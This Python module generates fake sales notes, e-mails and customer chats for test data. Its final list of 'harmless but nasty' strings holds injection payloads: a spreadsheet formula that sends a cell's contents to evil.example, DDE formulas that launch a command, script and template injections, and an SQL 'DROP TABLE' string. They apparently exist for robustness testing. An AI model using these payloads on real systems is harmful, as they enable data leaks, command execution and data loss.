# ruff: noqa: E501 - prose
"""Believable prose: notes, e-mails and chats that fit to what the seller sells."""

from __future__ import annotations

from .chance import Chance

OPEN = ["Spoke with {who} this morning.", "{who} called back after the holidays.", "Left a voicemail for {who}.", "Met {who} at the trade show.", "{who} filled in the web form.",
        "Referred by a neighbour; {who} asked for a call.", "Second call with {who}.", "{who} replied to the April mailing.", "Walk-in: {who} came by the office."]
MIDDLE = ["Interested in {what}, but wants to see numbers first.", "Budget for {what} is approved for Q3.", "Compares us with two others on {what}.",
          "Needs {what} before winter; decision is with the board.", "Asked whether {what} can be paid in three instalments.", "Had a bad experience with another supplier of {what}.",
          "Liked the reference photos of {what}.", "Wants {what} at both locations."]
CLOSE = ["Call again next Tuesday.", "Sent the brochure.", "Do not call before 10.", "Waiting for the signed quote.", "Site visit to be arranged.", "Prefers e-mail.",
         "Follow up in two weeks.", "Gave them until the end of the month.", "“Let's talk after the audit,” they said.", "Great fit 👍", "Discount of 5% mentioned; nothing promised."]


def note(chance: Chance, who: str, what: str) -> str:
    """Two or three sentences of plain text."""
    said = f"{chance.pick(OPEN).format(who=who)} {chance.pick(MIDDLE).format(what=what)}"
    return f"{said} {chance.pick(CLOSE)}" if chance.often(0.7) else said


def html_note(chance: Chance, who: str, what: str) -> str:
    """The same as simple HTML."""
    return f"<p>{chance.pick(OPEN).format(who=who)}</p><p>{chance.pick(MIDDLE).format(what=f'<b>{what}</b>')} {chance.pick(CLOSE)}</p>"


def email(chance: Chance, first: str, what: str, sender: str) -> tuple[str, str]:
    """(subject, HTML body) of a mail to a customer."""
    subject = chance.pick(["Your question about {what}", "Quote for {what}", "Re: {what}", "Next steps: {what}", "Thanks for your time today"]).format(what=what)
    body = (f"<p>Hello {first},</p><p>{chance.pick(['Thank you for the call.', 'As promised, here are the details.', 'I hope you are well.'])} "
            f"{chance.pick(['I attached the offer for', 'Please find below our thoughts on', 'We can start with'])} {what}.</p>"
            f"<ul><li>{chance.pick(['Delivery in 3 weeks', 'Delivery on request', 'Start next month'])}</li><li>{chance.pick(['5-year warranty', 'Cancel at any time', 'Free first visit'])}</li></ul>"
            f"<p>Best regards<br>{sender}</p>")
    return subject, body


QUESTIONS = ["Hi! Do you also work in {city}?", "how much is {what} roughly?", "Saw your ad 😀 still valid?", "Can someone call me after 5?", "do u take cards", "Is {what} available in March?"]
ANSWERS = ["Hello {who}, thanks for writing!", "Yes we do – can I have your phone number?", "It depends on the size; most customers pay a deposit first.", "Sure, what time suits you?", "We'll send you a quote today."]
THANKS = ["perfect thx 🙏", "Great, talk soon.", "Merci beaucoup !", "ok", "Let me ask my wife first"]


def chat(chance: Chance, who: str, what: str, city: str) -> list[tuple[str, str]]:
    """(side, text) of a conversation; side is ``them`` or ``us``."""
    lines = [("them", chance.pick(QUESTIONS).format(what=what, city=city)), ("us", chance.pick(ANSWERS).format(who=who))]
    for _ in range(chance.between(0, 2)):
        lines += [("them", chance.pick(QUESTIONS).format(what=what, city=city)), ("us", chance.pick(ANSWERS).format(who=who))]
    return [*lines, ("them", chance.pick(THANKS))]


# Texts that a careless program executes, cuts or loses. They are ordinary content and never a reason to reject a row.
HARMLESS_BUT_NASTY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click here")',
    "+49 30 23125001 is the number for the keys",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    'Said: "call me, please", then hung up',
    "First line\nSecond line, after a break\n\nFourth line",
    "<script>alert('crm')</script><b>bold</b> & <i>italic</i>",
    "{{ 7*7 }} ${7*7} {% raw %} %s %(name)s",
    "C:\\temp\\new; DROP TABLE leads;--",
    "Emoji 🏡☀️🔋 and \u200bzero\u200bwidth, tab\there",
]
